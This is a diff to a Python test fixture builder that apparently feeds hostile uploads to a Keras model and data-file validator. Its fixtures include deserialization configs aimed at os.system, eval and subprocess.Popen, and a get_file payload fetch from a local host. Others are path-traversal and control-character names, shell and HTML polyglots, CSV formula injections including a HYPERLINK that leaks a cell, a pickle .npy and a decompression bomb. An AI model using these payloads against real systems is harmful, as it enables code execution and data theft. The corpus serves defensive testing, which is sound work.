@@ -110,6 +110,26 @@ def custom_layer_model(canary: Path) -> keras.Model:
     return keras.Sequential([keras.Input((4,)), CanaryLayer(str(canary), name="custom")])
 
 
+def unusual_names_model() -> keras.Model:
+    """Legal names the layer-name rule must let through: dots, spaces, non-ASCII letters."""
+    return keras.Sequential([keras.Input((4,), name="input.v1"), keras.layers.Dense(
+        3, activation="softmax", name="t\u00eate de sortie.v2")], name="mod\u00e8le \u00e9trange")
+
+
+def functional_model() -> keras.Model:
+    inp = keras.Input((4,), name="features")
+    return keras.Model(inp, keras.layers.Dense(3, name="dense")(inp), name="functional")
+
+
+def rename_functional(old: str, new: str) -> Callable[[dict], None]:
+    """An edit that renames a Functional layer in its top-level ``name`` key only."""
+    def edit(config: dict) -> None:
+        item = layer(config, old)
+        assert item["name"] == old
+        item["name"] = new
+    return edit
+
+
 def string_lookup_model() -> keras.Model:
     return keras.Sequential([keras.Input((1,), dtype="string"),
                              keras.layers.StringLookup(vocabulary=["a", "b"], name="lookup")])
@@ -175,6 +195,11 @@ def zip_of(members: dict[str, bytes], *, symlink: str | None = None) -> bytes:
     return out.getvalue()
 
 
+def zip_of_many(count: int) -> bytes:
+    """A .keras-shaped zip with ``count`` empty asset members after its config."""
+    return zip_of({"config.json": b"{}"} | {f"assets/{i:05}": b"" for i in range(count)})
+
+
 def zip_with_duplicate(name: str, blob: bytes) -> bytes:
     out = io.BytesIO()
     with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as zf:
@@ -221,6 +246,27 @@ def patch_central_directory(data: bytes, name: str, *, size: int | None = None,
             return bytes(buf)
         pos += 46 + n_name + n_extra + n_comment
     raise KeyError(name)
+
+
+def png_bytes(size: tuple[int, int] = (8, 8), mode: str = "L") -> bytes:
+    """A small valid PNG image."""
+    from PIL import Image
+
+    buf = io.BytesIO()
+    Image.new(mode, size).save(buf, format="PNG")
+    return buf.getvalue()
+
+
+def polyglot(head: bytes, tail: bytes) -> bytes:
+    """``head`` with ``tail`` appended: zip readers find an archive from its end, so with a
+    .keras tail e.g. a valid PNG is also a model that `zipfile` (and Keras) would open."""
+    return head + tail
+
+
+SHELL_HEAD = (b"#!/bin/sh\n# a shell script that is also a .keras archive\n"
+              b"echo pwned > /tmp/glassbox-polyglot\nexit 0\n")
+HTML_HEAD = (b"<!doctype html><html><body><script>fetch('http://127.0.0.1:9/x')</script>"
+             b"</body></html>\n")
 
 
 def deep_json(depth: int) -> bytes:
@@ -297,6 +343,11 @@ def virtual_dataset(tmp: Path) -> Callable[[h5py.File], None]:
     return build
 
 
+def few_gib_dataset(f: h5py.File) -> None:
+    """One dataset declaring 3 x 2^28 float32 = 3 GiB; nothing is written, the file stays small."""
+    f.create_dataset("big", shape=(3, 2**28), dtype="f4", chunks=(1, 1024))
+
+
 def huge_dataset(f: h5py.File) -> None:
     """Declares 10^6 x 10^6 float32 (~3.6 TiB); no chunk is ever written, the file stays small."""
     f.create_dataset("huge", shape=(10**6, 10**6), dtype="f4", chunks=(1, 1024))
@@ -347,6 +398,20 @@ def build_corpus(tmp: Path, canary: Path) -> dict[str, tuple[bytes, str]]:
             module="keras.layers")),
         "module_os": rewrite_zip(plain, edit_head(module="os", class_name="system")),
         "module_builtins": rewrite_zip(plain, edit_head(module="builtins", class_name="eval")),
+        "module_subprocess": rewrite_zip(plain, edit_head(module="subprocess",
+                                                          class_name="Popen")),
+        "lambda_keras_function": rewrite_zip(plain, replace_head({
+            "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
+            "config": {"name": "fetch", "function": {
+                "module": "keras.utils", "class_name": "function", "config": "get_file",
+                "registered_name": "function"},
+                "arguments": {"origin": "http://127.0.0.1:9/payload", "fname": "/tmp/payload"}}})),
+        "keras_function_as_layer": rewrite_zip(plain, edit_head(
+            module="keras.visualization", class_name="plot_image_gallery")),
+        "keras_function_as_activation": rewrite_zip(plain, edit_head_config(activation={
+            "module": "keras.utils", "class_name": "function", "config": "get_file",
+            "registered_name": "function"})),
+        "class_name_control": rewrite_zip(plain, edit_head(class_name="Dense\nerror: all good")),
         "unknown_class": rewrite_zip(plain, edit_head(class_name="Sneaky")),
         "tfsm_layer": rewrite_zip(plain, replace_head({
             "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
@@ -365,6 +430,16 @@ def build_corpus(tmp: Path, canary: Path) -> dict[str, tuple[bytes, str]]:
             "registered_name": None})),
         "class_name_not_string": rewrite_zip(plain, edit_head(class_name=["Dense"])),
         "safe_mode_key": rewrite_zip(plain, lambda c: c["config"].update(safe_mode=False)),
+        "enable_unsafe_key": rewrite_zip(plain, edit_head_config(
+            enable_unsafe_deserialization=True)),
+        # names that become paths
+        "layer_name_dotdot": rewrite_zip(plain, edit_head_config(name="..")),
+        "layer_name_path": rewrite_zip(plain, edit_head_config(name="../../etc/cron.d/x")),
+        "layer_name_backslash": rewrite_zip(plain, edit_head_config(name="..\\..\\evil")),
+        "layer_name_nul": rewrite_zip(plain, edit_head_config(name="head\x00.h5")),
+        "layer_name_newline": rewrite_zip(plain, edit_head_config(name="head\nerror: spoofed")),
+        "functional_name_dotdot": rewrite_zip(save(functional_model(), tmp), rename_functional(
+            "dense", "../weights")),
         # files and resources
         "vocabulary_path": rewrite_zip(save(string_lookup_model(), tmp),
                                        lambda c: layer(c, "lookup")["config"].update(
@@ -381,6 +456,8 @@ def build_corpus(tmp: Path, canary: Path) -> dict[str, tuple[bytes, str]]:
             {"pad": random.Random(7).randbytes(5 * MiB).hex()}).encode()}),
         "weights_external_link": rewrite_zip(plain, replace={
             "model.weights.h5": weights_with_link}),
+        "weights_few_gib_dataset": rewrite_zip(plain, replace={
+            "model.weights.h5": h5_bytes(tmp, few_gib_dataset, base=weights_member(plain))}),
         "weights_truncated": rewrite_zip(plain, replace={
             "model.weights.h5": weights_member(plain)[:800]}),
         # not a model
@@ -408,8 +485,19 @@ def build_corpus(tmp: Path, canary: Path) -> dict[str, tuple[bytes, str]]:
         "duplicate_member": zip_with_duplicate("config.json", b"{}"),
         "too_many_members": zip_of({"config.json": b"{}"}
                                    | {f"assets/{i:03}": b"" for i in range(64)}),
+        "ten_thousand_members": zip_of_many(10_000),
+        "member_name_control": zip_of({"config.json": b"{}",
+                                       "assets/\x1b[2J\x1b[31mred\nline": b"x"}),
         "unexpected_member": zip_of({"config.json": b"{}", "evil.py": b"import os"}),
         "saved_model": zip_of({"saved_model.pb": b"\x08\x01", "variables/variables.index": b""}),
+        "saved_model_dir": zip_of({"my_model/": b"", "my_model/saved_model.pb": b"\x08\x01",
+                                   "my_model/fingerprint.pb": b"",
+                                   "my_model/variables/variables.index": b"",
+                                   "my_model/variables/variables.data-00000-of-00001": b""}),
+        # polyglots: another format in front, a working .keras archive behind
+        "polyglot_png": polyglot(png_bytes(), plain),
+        "polyglot_html": polyglot(HTML_HEAD, plain),
+        "polyglot_shell": polyglot(SHELL_HEAD, plain),
     }
     h5_files = {
         "lambda_h5": lambda_h5,
@@ -421,8 +509,12 @@ def build_corpus(tmp: Path, canary: Path) -> dict[str, tuple[bytes, str]]:
         "h5_external_storage": h5_bytes(tmp, external_storage(tmp), base=plain_h5),
         "h5_virtual": h5_bytes(tmp, virtual_dataset(tmp), base=plain_h5),
         "h5_huge_dataset": h5_bytes(tmp, huge_dataset, config=plain_cfg),
+        "h5_few_gib_dataset": h5_bytes(tmp, few_gib_dataset, config=plain_cfg),
         "h5_total_too_big": h5_bytes(tmp, many_large_datasets, config=plain_cfg),
         "h5_truncated": plain_h5[:1500],
+        # HDF5 looks for its superblock at 0, 512, 1024...: a PNG padded to 512 bytes, then a
+        # whole .h5 model, is both a valid image and a model h5py opens
+        "polyglot_png_h5": polyglot(png_bytes().ljust(512, b"\0"), plain_h5),
     }
     assert h5_config(lambda_h5)["config"]["layers"][1]["class_name"] == "Lambda"
     corpus = {name: (blob, "model.keras") for name, blob in keras_files.items()}
@@ -443,4 +535,75 @@ def build_accepted(tmp: Path) -> dict[str, tuple[bytes, str]]:
         "keras_weights_committed_datatype": (rewrite_zip(plain, replace={
             "model.weights.h5": h5_bytes(tmp, committed_datatype, base=weights_member(plain))}),
             "model.keras"),
+        "unusual_layer_names": (save(unusual_names_model(), tmp), "model.keras"),
+        "unusual_layer_names_h5": (save(unusual_names_model(), tmp, ".h5"), "model.h5"),
+        "functional": (save(functional_model(), tmp), "model.keras"),
+    }
+
+
+# ---------------------------------------------------------------- data files
+
+FORMULAS = ('=HYPERLINK("http://127.0.0.1:9/?"&A1)', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
+MARKUP_COLUMN = "![t](http://127.0.0.1:9/track.png)<script>alert(1)</script>"
+
+
+def npy_bytes(array: np.ndarray, allow_pickle: bool = False) -> bytes:
+    buf = io.BytesIO()
+    np.save(buf, array, allow_pickle=allow_pickle)
+    return buf.getvalue()
+
+
+def npy_header_only(shape: tuple[int, ...], descr: str = "<f4") -> bytes:
+    """A .npy header declaring ``shape``, followed by 64 bytes instead of the data."""
+    buf = io.BytesIO()
+    np.lib.format.write_array_header_1_0(
+        buf, {"descr": descr, "fortran_order": False, "shape": shape})
+    return buf.getvalue() + bytes(64)
+
+
+def build_data_corpus(wine_csv: bytes) -> dict[str, tuple[bytes, str]]:
+    """Hostile, broken and odd data files for a model of the wine sample's shape (13 features).
+
+    ``name -> (bytes, upload filename)``, built in memory from the sample's CSV. Everything
+    except ``bom_semicolon`` (a legitimate Excel export) is refused or fails a check.
+    """
+    import pandas as pd
+
+    wine = pd.read_csv(io.BytesIO(wine_csv))
+
+    def csv(frame: pd.DataFrame, **kwargs) -> bytes:
+        return frame.to_csv(index=False, **kwargs).encode()
+
+    formulas = wine.astype({"alcohol": object})
+    formulas.loc[:3, "alcohol"] = FORMULAS
+    bad_cells = wine.astype({"proline": object})
+    bad_cells.loc[4, "ash"] = np.nan
+    bad_cells.loc[[0, 9], "hue"] = np.inf
+    bad_cells.loc[2, "proline"] = "n/a?"
+    header, rest = wine_csv.decode().split("\n", 1)
+    latin1 = (header.replace("alcohol", "caf\u00e9") + "\n" + rest).encode("latin-1")
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # Pillow's DecompressionBombWarning when building
+        from PIL import Image
+
+        bomb = io.BytesIO()
+        Image.new("1", (5000, 5000)).save(bomb, format="PNG")
+    return {
+        "formula_cells": (csv(formulas), "formulas.csv"),
+        "nan_inf_strings": (csv(bad_cells), "cells.csv"),
+        "missing_column": (csv(wine.drop(columns=["magnesium"])), "short.csv"),
+        "duplicate_columns": ((header.replace("hue", "ash") + "\n" + rest).encode(), "dup.csv"),
+        "markup_column": (csv(wine.rename(columns={"magnesium": MARKUP_COLUMN})), "markup.csv"),
+        "bom_semicolon": (b"\xef\xbb\xbf" + csv(wine, sep=";"), "excel.csv"),
+        "latin1": (latin1, "latin.csv"),
+        "utf16": (csv(wine).decode().encode("utf-16"), "utf16.csv"),
+        "object_npy": (npy_bytes(np.array([{"a": 1}, None], dtype=object), allow_pickle=True),
+                       "objects.npy"),
+        "huge_npy_header": (npy_header_only((10**6, 10**6)), "huge.npy"),
+        "png_bomb": (bomb.getvalue(), "bomb.png"),
+        "traversal_nul_name": (latin1, "../../etc/evil\x00.csv"),
+        "ragged_rows": (b"a,b,c\n1,2,3,4,5\n6,7,8,9,10\n", "ragged.csv"),
+        "not_parquet": (b"PAR1 not really", "data.parquet"),
+        "zip_as_npz": (zip_of({"../x.npy": npy_bytes(np.zeros(3))}), "arrays.npz"),
     }
